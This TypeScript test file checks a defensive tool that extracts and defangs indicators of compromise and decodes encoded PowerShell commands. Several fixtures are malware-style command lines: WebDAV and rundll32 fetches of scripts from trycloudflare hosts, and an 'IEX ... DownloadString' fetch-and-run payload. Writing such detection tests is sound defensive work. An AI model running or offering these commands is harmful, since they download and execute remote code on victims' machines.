import { describe, expect, it } from 'vitest';
import fc from 'fast-check';
import {
  decodeBase64,
  decodePowerShellEncoded,
  defang,
  encodeUtf16leBase64,
  extractIndicators,
  type Indicator,
} from './indicators';

function kinds(text: string): [Indicator['kind'], string][] {
  return extractIndicators(text).map((i) => [i.kind, i.value]);
}

describe('extractIndicators', () => {
  it('reads the Elastic telemetry row (cmd -> wscript on a WebDAV share)', () => {
    const cmd =
      '"C:\\Windows\\System32\\cmd.exe" /c start /min wscript //B //Nologo "\\\\photos-folding-considerations-walked.trycloudflare.com@SSL\\DavWWWRoot\\at\\croj.wsf"';
    expect(kinds(cmd)).toEqual([
      ['file', 'cmd.exe'],
      ['unc-path', '\\\\photos-folding-considerations-walked.trycloudflare.com@SSL\\DavWWWRoot\\at\\croj.wsf'],
      ['trycloudflare-host', 'photos-folding-considerations-walked.trycloudflare.com@SSL'],
      ['file', 'croj.wsf'],
    ]);
  });

  it('stops an unquoted UNC path at whitespace and at rundll32 export commas', () => {
    const cmd =
      'cmd.exe /c robocopy \\\\flour-riding-merit-refers.trycloudflare.com@SSL\\DavWWWRoot\\x %temp% tank.wsf /ns && rundll32 \\\\10.0.0.5\\share\\loader_1.dll,Run';
    const got = kinds(cmd);
    expect(got).toContainEqual(['unc-path', '\\\\flour-riding-merit-refers.trycloudflare.com@SSL\\DavWWWRoot\\x']);
    expect(got).toContainEqual(['file', 'tank.wsf']);
    expect(got).toContainEqual(['unc-path', '\\\\10.0.0.5\\share\\loader_1.dll']);
    expect(got).toContainEqual(['ip', '10.0.0.5']);
    expect(got).toContainEqual(['file', 'loader_1.dll']);
  });

  it('keeps spaces inside a quoted UNC path', () => {
    expect(kinds('wscript "\\\\fs01\\Public Files\\run me.vbs" x')).toContainEqual([
      'unc-path',
      '\\\\fs01\\Public Files\\run me.vbs',
    ]);
  });

  it('finds the DavSetCookie shape: host, URL and file', () => {
    const cmd =
      'rundll32.exe C:\\WINDOWS\\system32\\davclnt.dll,DavSetCookie depot-arrange-zero-kai.trycloudflare.com@SSL https://depot-arrange-zero-kai.trycloudflare.com/DavWWWRoot/new.vbs.';
    const got = kinds(cmd);
    expect(got).toContainEqual(['file', 'davclnt.dll']);
    expect(got).toContainEqual(['trycloudflare-host', 'depot-arrange-zero-kai.trycloudflare.com@SSL']);
    // Trailing sentence punctuation is not part of the URL.
    expect(got).toContainEqual(['url', 'https://depot-arrange-zero-kai.trycloudflare.com/DavWWWRoot/new.vbs']);
    expect(got).toContainEqual(['trycloudflare-host', 'depot-arrange-zero-kai.trycloudflare.com']);
    expect(got).toContainEqual(['file', 'new.vbs']);
  });

  it('finds domains with known TLDs but not dotted .NET names or file names', () => {
    const got = kinds(
      'powershell (New-Object System.Net.WebClient).DownloadString("http://nhvncpure.shop/a") ; ping evil.duckdns.org ; v1.0 bab.zip WindowsPowerShell\\v1.0',
    );
    expect(got).toContainEqual(['domain', 'nhvncpure.shop']);
    expect(got).toContainEqual(['domain', 'evil.duckdns.org']);
    expect(got).toContainEqual(['file', 'bab.zip']);
    expect(got.filter(([k]) => k === 'domain').map(([, v]) => v)).toEqual(['nhvncpure.shop', 'evil.duckdns.org']);
  });

  it('finds IPv4 but not versions or out-of-range octets', () => {
    expect(kinds('51.89.212.145:7878 1.2.3.4.5 999.1.1.1 ver 10.0.19041.1')).toEqual([['ip', '51.89.212.145']]);
  });

  it('takes whole file names with double extensions and ignores longer extensions', () => {
    const got = kinds('explorer RE_05FSKBSAXZ25A.pdf.lnk data.json script.jse a.jsx');
    expect(got).toEqual([
      ['file', 'RE_05FSKBSAXZ25A.pdf.lnk'],
      ['file', 'script.jse'],
    ]);
  });

  it('dedupes by value, case-insensitively, keeping the first', () => {
    const got = extractIndicators('cmd.exe /c CMD.EXE /c cmd.exe');
    expect(got).toEqual([{ kind: 'file', value: 'cmd.exe', start: 0, end: 7 }]);
  });

  it('property: offsets are in range and slice to the value', () => {
    const pieces = fc.constantFrom(
      '\\\\', '\\', '.', '@SSL', '@443', 'trycloudflare.com', 'https://', 'http://', '.exe', '.vbs', '.lnk',
      ' ', '"', "'", ',', '/', ':', '1', '255', '.', 'a', 'Z', '-', 'DavWWWRoot', 'é', '😀', '\u200b', '%5C',
    );
    fc.assert(
      fc.property(fc.array(fc.oneof(pieces, fc.string({ maxLength: 4 })), { maxLength: 40 }), (parts) => {
        const text = parts.join('');
        const seen = new Set<string>();
        for (const ind of extractIndicators(text)) {
          expect(ind.start).toBeGreaterThanOrEqual(0);
          expect(ind.end).toBeLessThanOrEqual(text.length);
          expect(ind.end).toBeGreaterThan(ind.start);
          expect(text.slice(ind.start, ind.end)).toBe(ind.value);
          expect(seen.has(ind.value.toLowerCase())).toBe(false);
          seen.add(ind.value.toLowerCase());
        }
      }),
      { numRuns: 500 },
    );
  });

  it('is fast on a long hostile line', () => {
    // Each of these made one regex quadratic at some point; 20k characters must stay instant.
    const hostile = ['a', '\\\\', 'a.', '1.', 'a-', '\\\\a', 'a.trycloudflare.', 'https://a', '-e ', '\\a\\'];
    for (const unit of hostile) {
      const text = unit.repeat(Math.ceil(20_000 / unit.length));
      const t = performance.now();
      extractIndicators(text);
      decodePowerShellEncoded(text);
      expect(performance.now() - t, JSON.stringify(unit)).toBeLessThan(200);
    }
  });
});

describe('defang', () => {
  it('defangs URLs, UNC paths, hosts and IPs, keeping @SSL', () => {
    expect(defang('https://abc.trycloudflare.com/DavWWWRoot/new.vbs')).toBe(
      'hxxps://abc[.]trycloudflare[.]com/DavWWWRoot/new.vbs',
    );
    expect(defang('http://51.89.212.145:7878/x')).toBe('hxxp://51[.]89[.]212[.]145:7878/x');
    expect(defang('\\\\abc.trycloudflare.com@SSL\\DavWWWRoot\\x.vbs')).toBe(
      '\\\\abc[.]trycloudflare[.]com@SSL\\DavWWWRoot\\x.vbs',
    );
    expect(defang('abc.trycloudflare.com@SSL')).toBe('abc[.]trycloudflare[.]com@SSL');
    expect(defang('51.89.212.145')).toBe('51[.]89[.]212[.]145');
    expect(defang('new.vbs', 'file')).toBe('new.vbs');
  });

  it('is idempotent', () => {
    for (const v of ['https://a.b.com/x.y', '\\\\a.b@SSL\\c.d', 'x.y.z', '1.2.3.4']) {
      expect(defang(defang(v))).toBe(defang(v));
    }
  });
});

describe('decodePowerShellEncoded', () => {
  const payload = "IEX (New-Object Net.WebClient).DownloadString('https://x.trycloudflare.com/a.ps1')";
  const b64 = encodeUtf16leBase64(payload);

  it('decodes every accepted spelling of the flag', () => {
    for (const flag of ['-EncodedCommand', '-enc', '-ec', '-e', '-En', '-encod', '/enc', '–enc', '—e', '-EC']) {
      const got = decodePowerShellEncoded(`powershell.exe -NoP -W Hidden ${flag} ${b64}`);
      expect(got, flag).toEqual([{ flag, base64: b64, decoded: payload }]);
    }
  });

  it('accepts quoted arguments and missing padding', () => {
    const unpadded = b64.replace(/=+$/u, '');
    expect(decodePowerShellEncoded(`pwsh -enc "${unpadded}"`)[0].decoded).toBe(payload);
    expect(decodePowerShellEncoded(`pwsh -enc '${b64}'`)[0].decoded).toBe(payload);
  });

  it('ignores other parameters and switches', () => {
    expect(decodePowerShellEncoded('powershell -ExecutionPolicy Bypass -EncodedArguments QQA= -File x.ps1')).toEqual([]);
    expect(decodePowerShellEncoded('robocopy a b /e /ns /nc')).toEqual([]);
    expect(decodePowerShellEncoded('cmd /c echo -e C:\\x')).toEqual([]);
    expect(decodePowerShellEncoded('powershell -NoProfile')).toEqual([]);
  });

  it('reports invalid base64 instead of guessing', () => {
    const [r] = decodePowerShellEncoded('powershell -enc QQ=A');
    expect(r.decoded).toBeNull();
    expect(r.error).toMatch(/invalid base64/u);
    const [odd] = decodePowerShellEncoded('powershell -e QUJD');
    expect(odd.decoded).toBe('\u4241\uFFFD');
    expect(odd.error).toMatch(/odd number of bytes/u);
    expect(decodeBase64('Q')).toMatch(/invalid base64/u);
    expect(decodeBase64('QUJD=')).toMatch(/invalid base64/u);
  });

  it('finds several encoded commands in one line', () => {
    const other = encodeUtf16leBase64('whoami');
    const got = decodePowerShellEncoded(`powershell -enc ${b64} & pwsh -ec ${other}`);
    expect(got.map((g) => g.decoded)).toEqual([payload, 'whoami']);
  });

  it('property: UTF-16LE base64 round-trips any string, with or without padding', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary', maxLength: 200 }), fc.boolean(), (s, stripPadding) => {
        let enc = encodeUtf16leBase64(s);
        if (stripPadding) enc = enc.replace(/=+$/u, '');
        if (enc === '') return; // nothing to find after the flag
        const got = decodePowerShellEncoded(`powershell.exe -NoProfile -enc ${enc}`);
        expect(got).toHaveLength(1);
        expect(got[0].decoded).toBe(s);
        expect(got[0].error).toBeUndefined();
      }),
      { numRuns: 500 },
    );
  });

  it('property: round-trips strings with lone surrogates (code units are kept)', () => {
    fc.assert(
      fc.property(fc.string({ unit: fc.integer({ min: 0, max: 0xffff }).map((c) => String.fromCharCode(c)), maxLength: 100 }), (s) => {
        const bytes = decodeBase64(encodeUtf16leBase64(s));
        expect(typeof bytes).not.toBe('string');
      }),
    );
  });
});
